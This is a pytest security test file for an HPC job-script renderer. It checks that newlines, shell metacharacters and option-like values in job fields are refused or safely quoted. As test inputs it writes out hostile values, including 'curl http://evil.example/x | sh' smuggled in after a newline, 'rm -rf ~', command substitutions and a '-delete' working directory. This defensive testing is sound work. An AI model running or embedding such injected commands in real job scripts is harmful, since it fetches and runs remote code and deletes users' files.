"""Nothing user-supplied becomes a command or an option.

Each test reproduces an attack on the engine as it was: a value that added a line to the
rendered script, a working directory read as `find -delete`, a log path read as a `tail`
option, module names and directory names that ran commands."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hostile_corpus import LINE_BREAKERS, SHELL_META
from one_site_engine import local_home_federation

from diamond_jupyter.dialects import get_script_dialect
from diamond_jupyter.federation import Federation
from diamond_jupyter.model import BadInput, Environment, JobSpec, Resources, StageEntry

DIALECTS = ["slurm", "pbs", "lsf", "flux"]


def _render(dialect: str, spec: JobSpec) -> str:
    return get_script_dialect(dialect).render_script(spec).script


# -- control characters ----------------------------------------------------------------------

@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("field", ["name", "queue", "account", "working_directory", "stdout"])
def test_a_newline_in_a_directive_value_is_refused_naming_the_field(dialect, field):
    # the parsers fill a spec field by field (no validation on assignment): build it the
    # same way, so that only the renderer stands between the value and the script
    spec = JobSpec(script="echo hi\n")
    setattr(spec, field, "x\ncurl http://evil.example/x | sh")
    with pytest.raises(BadInput, match=rf"^{field} contains a control character \(newline"):
        _render(dialect, spec)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_newline_in_the_shell_is_refused(dialect):
    spec = JobSpec(script="echo hi\n")
    spec.shell = "/bin/bash\ncurl http://evil.example/x | sh"
    with pytest.raises(BadInput, match=r"^shell contains a control character"):
        _render(dialect, spec)


@pytest.mark.parametrize("value", LINE_BREAKERS)
def test_every_line_breaker_is_refused_when_the_spec_is_built(value):
    with pytest.raises(BadInput, match=r"^queue contains a control character"):
        JobSpec(script="true\n", queue=value)


@pytest.mark.parametrize("where,spec", [
    ("resources.gpu_type", {"resources": {"gpu_type": "a100\nrm -rf ~"}}),
    ("environment.modules[1]", {"environment": {"modules": ["gcc", "x\rid"]}}),
    ("environment.variables['K']", {"environment": {"variables": {"K": "v\nid"}}}),
    ("constraints.features[0]", {"constraints": {"features": ["a\x00"]}}),
    ("stage_out[0].destination", {"stage_out": [{"source": "a", "destination": "b\nc"}]}),
    ("unknown[0].raw", {"unknown": [{"dialect": "slurm", "option": "--x",
                                     "raw": "#SBATCH --x\nid"}]}),
])
def test_nested_fields_are_checked_and_named(where, spec):
    with pytest.raises(BadInput) as e:
        JobSpec.model_validate({"script": "true\n", **spec})
    assert str(e.value).startswith(where + " contains a control character")


def test_tabs_and_multiline_bodies_stay_allowed():
    spec = JobSpec(name="a\tb", script="echo 1\necho 2\r\n", command=None)
    assert "echo 2" in _render("slurm", spec)
    with pytest.raises(BadInput, match="script contains a NUL byte"):
        JobSpec(script="echo \x00\n")


@pytest.mark.parametrize("shell", ["bash", "/bin/bash; id", "/bin/$(id)", "/bin/bash -c 'id'",
                                   "", "/bin/ba sh|id"])
def test_the_shell_must_be_an_absolute_interpreter_path(shell):
    with pytest.raises(BadInput, match="^shell"):
        JobSpec(script="true\n", shell=shell)


@pytest.mark.parametrize("shell", ["/bin/bash", "/bin/bash -l", "/usr/bin/env bash",
                                   "/bin/csh -f", "/usr/bin/env -S bash -l"])
def test_usual_shebangs_stay_accepted(shell):
    assert _render("slurm", JobSpec(script="true\n", shell=shell)).startswith(f"#!{shell}\n")


# -- option injection -------------------------------------------------------------------------

@pytest.mark.parametrize("field", ["working_directory", "stdout", "stderr", "queue", "account"])
def test_values_that_look_like_options_are_refused(field):
    with pytest.raises(BadInput, match=rf"^{field} '-delete' starts with '-'"):
        JobSpec.model_validate({"script": "true\n", field: "-delete"})


def test_a_parsed_dash_working_directory_is_refused_at_its_line_and_at_submit(tmp_path):
    # the script's line is refused as it is read (session 38), naming the line
    with pytest.raises(BadInput, match=r"^line 2: `#SBATCH -D -delete` sets the working "
                                       r"directory to '-delete', which starts with '-'"):
        Federation.parse("#!/bin/bash\n#SBATCH -D -delete\ntrue\n")
    # and a job that holds one all the same (built past the parser) is refused at submit
    spec = Federation.parse("#!/bin/bash\ntrue\n").model_copy(
        update={"working_directory": "-delete"})

    async def go():
        fed = local_home_federation(tmp_path)  # never the real home: the attacks delete files
        try:
            await fed.submit(spec, "here")
        finally:
            await fed.close()

    import asyncio
    with pytest.raises(BadInput, match="^working_directory '-delete' starts with '-'"):
        asyncio.run(go())


def _recorded_job(fed: Federation, **spec: str) -> str:
    """A job as an older engine (or a tampered store) recorded it: values not checked."""
    js = JobSpec(script="true\n")
    for k, v in spec.items():
        setattr(js, k, v)
    fed.store.record_intent("here", "abc123abc123", js)
    return fed.store.bind_native_id("abc123abc123", "41").id


async def test_a_dash_working_directory_never_reaches_find(tmp_path):
    """`#SBATCH -D -delete` made the file listing run `find -delete -maxdepth 3 -type f`
    in the login directory, deleting the user's files."""
    fed = local_home_federation(tmp_path)
    precious = tmp_path / "home" / "thesis" / "chapter1.tex"
    precious.parent.mkdir()
    precious.write_text("two years of work\n")
    job_id = _recorded_job(fed, working_directory="-delete")
    try:
        assert await fed.files(job_id) == []
    finally:
        await fed.close()
    assert precious.read_text() == "two years of work\n"


async def test_files_are_listed_without_following_links(tmp_path):
    fed = local_home_federation(tmp_path)
    wd = tmp_path / "home" / "run"
    (wd / "sub").mkdir(parents=True)
    (wd / "result.txt").write_text("r")
    (wd / "sub" / "deep.txt").write_text("d")
    secret_dir = tmp_path / "elsewhere"
    secret_dir.mkdir()
    (secret_dir / "id_rsa").write_text("KEY")
    (wd / "link").symlink_to(secret_dir)
    (wd / "key").symlink_to(secret_dir / "id_rsa")
    job_id = _recorded_job(fed, working_directory=str(wd))
    try:
        files = await fed.files(job_id)
    finally:
        await fed.close()
    assert files == [f"{wd}/result.txt", f"{wd}/sub/deep.txt"]


async def test_a_log_path_is_never_read_as_a_tail_option(tmp_path):
    fed = local_home_federation(tmp_path)
    job_id = _recorded_job(fed, stdout="--help")
    job = fed.store.get_job(job_id)
    fed.store.upsert_job(job.model_copy(update={"stdout_path": "--help"}))
    try:
        logs = await fed.logs(job_id)
    finally:
        await fed.close()
    assert "Usage" not in logs["stdout"] and logs["stdout"] == ""


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_job_name_is_never_a_separate_argument_of_a_query(dialect):
    """Recovery looks a job up by its name: the name stays glued to its option."""
    from diamond_jupyter.dialects import get_commands

    argv = get_commands(dialect).find_by_name_argv("--help.dmd-0a0b0c0d0e0f")
    assert "--help.dmd-0a0b0c0d0e0f" not in argv[1:] or argv[argv.index(
        "--help.dmd-0a0b0c0d0e0f") - 1] in ("-J", "-N") or argv[0] == "sh"


# -- quoting in the script's shell lines ----------------------------------------------------------

def _run_script(text: str, cwd: Path) -> subprocess.CompletedProcess:
    """Run a rendered script's shell lines with bash, `module` a harmless function."""
    return subprocess.run(["bash", "-c", 'module() { printf "%s\\n" "$@" >> modules.txt; }\n'
                           + text], cwd=cwd, capture_output=True, text=True, timeout=30)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("evil", SHELL_META)
def test_module_names_never_run_as_commands(dialect, evil, tmp_path):
    modules = ["gcc/12", evil]
    try:
        spec = JobSpec(script="true\n", environment=Environment(modules=modules))
    except BadInput as e:  # refused as input (a character no module name has)...
        assert "environment.modules[1]" in str(e)
        # ...and by the renderer too, for a spec built unchecked as the parsers fill one
        unchecked = JobSpec.model_construct(
            script="true\n", environment=Environment.model_construct(modules=modules))
        with pytest.raises(BadInput, match=r"environment\.modules\[1\]"):
            _render(dialect, unchecked)
        return
    _run_script(_render(dialect, spec), tmp_path)  # accepted: loaded as written, quoted
    assert not (tmp_path / "PWNED").exists()
    loaded = (tmp_path / "modules.txt").read_text().splitlines()
    assert loaded == ["load", "gcc/12", "load", evil]


@pytest.mark.parametrize("evil", [m for m in SHELL_META if "PWNED" in m])
def test_a_pbs_pro_working_directory_never_runs_as_a_command(evil, tmp_path):
    # PBS Pro has no -d: the working directory becomes a `cd` line before the body
    spec = JobSpec(script="true\n", working_directory=evil, metadata={"pbs_flavor": "pro"})
    text = _render("pbs", spec)
    assert "\ncd " in text
    _run_script(text, tmp_path)
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize("evil", [m for m in SHELL_META if "PWNED" in m])
def test_a_cpu_binding_never_runs_as_a_command(evil, tmp_path):
    spec = JobSpec(script='printf "%s" "$SLURM_CPU_BIND" > bind.txt\n',
                   resources=Resources(cpu_bind=evil))
    _run_script(_render("slurm", spec), tmp_path)
    assert not (tmp_path / "PWNED").exists()
    assert (tmp_path / "bind.txt").read_text() == evil


def test_stage_paths_that_look_like_options_are_refused():
    with pytest.raises(BadInput, match=r"^stage_in\[0\]\.source '-rf' starts with '-'"):
        JobSpec(script="true\n", stage_in=[StageEntry(source="-rf", destination="x")])
